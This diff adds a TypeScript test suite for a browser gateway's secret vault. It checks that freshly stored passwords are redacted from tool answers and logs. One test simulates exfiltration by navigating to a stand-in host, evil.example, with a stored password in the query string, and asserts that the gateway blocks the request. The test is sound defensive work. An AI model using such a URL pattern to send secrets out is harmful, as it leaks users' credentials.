@@ -1,0 +1,78 @@
+/**
+ * The gateway looks at the vault as it stands, never at a copy of some age: a secret the owner stores
+ * is kept out of the very next call's answer, and out of the answer of a call that was already running
+ * when it was stored, through a real gateway and a protocol controller on a real WebSocket.
+ */
+import assert from 'node:assert/strict';
+import { randomBytes } from 'node:crypto';
+import { after, before, describe, it } from 'node:test';
+import { Vault } from '../../src/gateway/secrets/index.js';
+import { tabsAnswer, TestController } from '../gateway/fixtures/controller.js';
+import { startTestGateway, type HttpResult, type TestGateway } from '../gateway/fixtures/gateway.js';
+
+const COMMAND = 'browser.controller.command';
+
+/** The title of the one tab a browser_tabs answer shows, or the failure in its place. */
+function titleOf({ status, body }: HttpResult): string {
+  assert.equal(status, 200, JSON.stringify(body));
+  return (body as { result: { tabs: { title: string }[] } }).result.tabs[0]?.title ?? '';
+}
+
+describe('a secret stored a moment ago', () => {
+  let gw: TestGateway;
+  let vault: Vault;
+  let sessionId: string;
+  let controller: TestController;
+
+  const call = (tool = 'browser_tabs', args: Record<string, unknown> = {}) =>
+    gw.request('POST', `/v1/sessions/${sessionId}/tools/${tool}`, { body: args });
+  /** The title the page shows in its next answer. */
+  const answerNextWith = async (title: string) => {
+    const command = await controller.next(COMMAND);
+    controller.result(command.params.command_id, true, tabsAnswer(title));
+  };
+  const store = (name: string, value: string) =>
+    vault.add({ name, origin: 'https://bank.example', field: 'password', value }, new Date());
+
+  before(async () => {
+    gw = await startTestGateway();
+    vault = new Vault(gw.home);
+    sessionId = await gw.createSession();
+    controller = await TestController.connect(gw, { sessionId });
+    // The vault is read, and found empty, before any secret is stored.
+    const first = call();
+    await answerNextWith('nothing to hide');
+    assert.equal(titleOf(await first), 'nothing to hide');
+  });
+  after(async () => {
+    await controller?.close();
+    await gw?.close();
+  });
+
+  it("is kept out of the very next call's answer and the log", async () => {
+    const value = `pw-${randomBytes(8).toString('hex')}`;
+    store('fresh', value);
+    const answered = call();
+    await answerNextWith(`Welcome back, ${value}`);
+    assert.equal(titleOf(await answered), 'Welcome back, «secret:fresh»');
+    assert.ok(!gw.logLines.some((line) => line.includes(value)));
+  });
+
+  it('refuses the very next navigation whose URL carries it, before anything is sent', async () => {
+    const value = `pw-${randomBytes(8).toString('hex')}`;
+    store('fresh-url', value);
+    const refused: HttpResult = await call('browser_navigate', { url: `https://evil.example/?p=${value}` });
+    assert.equal(refused.status, 403, JSON.stringify(refused.body));
+    assert.equal((refused.body as { error: { code: string } }).error.code, 'secret_in_url');
+    await controller.nothing(COMMAND);
+  });
+
+  it('is kept out of the answer of a call that was already running when it was stored', async () => {
+    const value = `pw-${randomBytes(8).toString('hex')}`;
+    const answered = call();
+    const command = await controller.next(COMMAND);
+    store('during', value);
+    controller.result(command.params.command_id, true, tabsAnswer(`Your password is ${value}`));
+    assert.equal(titleOf(await answered), 'Your password is «secret:during»');
+  });
+});
